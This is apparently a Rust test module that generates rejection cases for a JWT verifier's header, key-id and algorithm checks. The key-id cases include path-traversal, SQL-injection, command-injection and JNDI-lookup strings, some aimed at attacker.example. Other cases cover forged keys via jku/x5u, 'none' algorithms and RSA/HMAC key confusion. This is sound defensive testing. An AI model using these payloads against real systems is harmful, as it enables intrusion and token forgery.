//! What a header can say: extensions, types, keys and algorithms.

use super::*;

/// The valid token with one member of the header replaced.
fn with(name: &str, value: Value) -> String {
    with_header(|header| drop(header.insert(name.to_owned(), value)))
}

pub(super) fn members() -> Vec<Case> {
    let mut cases = vec![
        case(
            "b64 false",
            with_header(|header| header.extend([("b64".to_owned(), json!(false)), ("crit".to_owned(), json!(["b64"]))])),
            Reason::B64Refused,
        ),
        case("b64 true", with("b64", json!(true)), Reason::B64Refused),
    ];
    for crit in
        [json!([]), json!(["exp"]), json!(["b64"]), json!(["http://example.invalid/UNDEFINED"]), json!("exp"), json!(null), json!({}), json!([1])]
    {
        cases.push(case(format!("crit {crit}"), with("crit", crit), Reason::CritRefused));
    }
    for ty in [json!(1), json!(null), json!(["JWT"]), json!(""), json!("JWT\n"), json!("a".repeat(129))] {
        cases.push(case(format!("typ {ty}"), with("typ", ty), Reason::TypeInvalid));
    }
    for ty in ["logout+jwt", "secevent+jwt", "dpop+jwt", "JWE", "JOSE", "application/application/jwt", " JWT", "text/jwt"] {
        cases.push(case(format!("typ {ty}"), with("typ", json!(ty)), Reason::TypeWrong));
    }
    cases
}

pub(super) fn key_ids() -> Vec<Case> {
    let mut cases = Vec::new();
    let unknown = [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'secret' --",
        "p256' OR '1'='1",
        "https://attacker.example/key",
        "| id",
        "${jndi:ldap://attacker.example}",
        "P256",
        "p256 ",
        "p25",
        "p256é",
        "attacker",
    ];
    cases.extend(unknown.map(|kid| case(format!("kid {kid}"), with("kid", json!(kid)), Reason::UnknownKey)));
    cases.push(case("kid of 256 bytes", with("kid", json!("k".repeat(256))), Reason::UnknownKey));
    for kid in [
        json!(""),
        json!("k".repeat(257)),
        json!("p256\0"),
        json!("p256\n"),
        json!("\u{85}"),
        json!(256),
        json!(null),
        json!(["p256"]),
        json!({ "kid": "p256" }),
    ] {
        cases.push(case(format!("kid {kid}"), with("kid", kid), Reason::KeyIdInvalid));
    }
    cases.push(case("kid of a key for encryption", with("kid", json!("encryption")), Reason::KeyRefused));
    // An attacker's own key, offered in each way that a header has.
    let attacker = &WORLD.attacker;
    let signed = |header: Value| token(attacker, Algorithm::Es256, &header.to_string(), &claims().to_string());
    let offers = [
        ("jwk", attacker.jwk()),
        ("jku", json!("https://attacker.example/keys")),
        ("x5u", json!("https://attacker.example/key")),
        ("x5c", json!(["MIIB"])),
    ];
    for (name, offer) in offers {
        let under = |kid: &str| signed(header_with(name, &offer, kid));
        cases.push(case(format!("{name} under a good kid"), under("p256"), Reason::SignatureInvalid));
        cases.push(case(format!("{name} under its own kid"), under("attacker"), Reason::UnknownKey));
        cases.push(case(format!("{name} without a kid"), signed(json!({ "alg": "ES256", name: offer })), Reason::SignatureInvalid));
    }
    cases
}

fn header_with(name: &str, value: &Value, kid: &str) -> Value {
    json!({ "alg": "ES256", name: value, "kid": kid })
}

pub(super) fn algorithms() -> Vec<Case> {
    let world = &*WORLD;
    let body = claims().to_string();
    let mut cases = Vec::new();
    for none in ["none", "None", "NONE", "nOnE"] {
        cases.push(case(format!("alg {none} with a signature"), with("alg", json!(none)), Reason::AlgorithmNone));
        let text = with("alg", json!(none));
        cases.push(case(format!("alg {none} without a signature"), &text[..=text.rfind('.').unwrap()], Reason::PartEmpty));
    }
    for unknown in
        ["", "es256", "Es256", "ES256 ", " ES256", "ES256K", "ES512", "Ed25519", "Ed448", "RS1", "HS1", "RSA-OAEP", "dir", "none ", "ES256\0"]
    {
        cases.push(case(format!("alg {unknown:?}"), with("alg", json!(unknown)), Reason::AlgorithmUnknown));
    }
    for (name, value) in [("a number", json!(256)), ("null", json!(null)), ("a list", json!(["ES256"])), ("an object", json!({ "name": "ES256" }))] {
        cases.push(case(format!("alg that is {name}"), with("alg", value), Reason::AlgorithmMissing));
    }
    cases.push(case("no alg", with_header(|header| drop(header.remove("alg"))), Reason::AlgorithmMissing));
    // The public key, in every form that it is published in, as the secret of an HMAC.
    let (pem, jwk, public) = (world.rsa.pem(), world.rsa.jwk().to_string(), world.rsa.public());
    for (form, secret) in
        [("PEM", pem.as_bytes()), ("PEM without its last line end", pem.trim_end().as_bytes()), ("JWK", jwk.as_bytes()), ("PKCS#1", &public[..])]
    {
        for algorithm in SECRET {
            let text = valid(&Signer::secret("rsa", secret), algorithm);
            cases.push(case(format!("{} with the RSA key as {form}", algorithm.name()), text, Reason::AlgorithmRefused));
        }
    }
    // The header says one, the key is another's.
    let swaps = [
        (&world.p256, "p256", Algorithm::Es384),
        (&world.p256, "p256", Algorithm::EdDsa),
        (&world.p256, "p256", Algorithm::Rs256),
        (&world.p384, "p384", Algorithm::Es256),
        (&world.ed, "ed", Algorithm::Es256),
        (&world.rsa, "rsa", Algorithm::Es256),
        (&world.pinned, "pinned", Algorithm::Rs256),
        (&world.pinned, "pinned", Algorithm::Ps384),
        (&world.pinned, "pinned", Algorithm::Ps512),
    ];
    cases.extend(swaps.map(|(signer, kid, algorithm)| {
        case(
            format!("{} with the key {kid}", algorithm.name()),
            token(signer, algorithm, &header(algorithm, kid).to_string(), &body),
            Reason::AlgorithmRefused,
        )
    }));
    // Inside of one family the name is changed and the signature is not.
    for (said, made) in [
        (Algorithm::Rs256, Algorithm::Rs384),
        (Algorithm::Rs512, Algorithm::Rs256),
        (Algorithm::Rs256, Algorithm::Ps256),
        (Algorithm::Ps256, Algorithm::Rs256),
        (Algorithm::Ps384, Algorithm::Ps512),
        (Algorithm::Ps512, Algorithm::Rs512),
    ] {
        let text = token(&world.rsa, made, &header(said, "rsa").to_string(), &body);
        cases.push(case(format!("{} over a signature of {}", said.name(), made.name()), text, Reason::SignatureInvalid));
    }
    let unnamed = token(&world.rsa, Algorithm::Ps256, r#"{"alg":"PS256"}"#, &body);
    cases.push(case("no kid where two keys fit", unnamed, Reason::KeyAmbiguous));
    cases
}
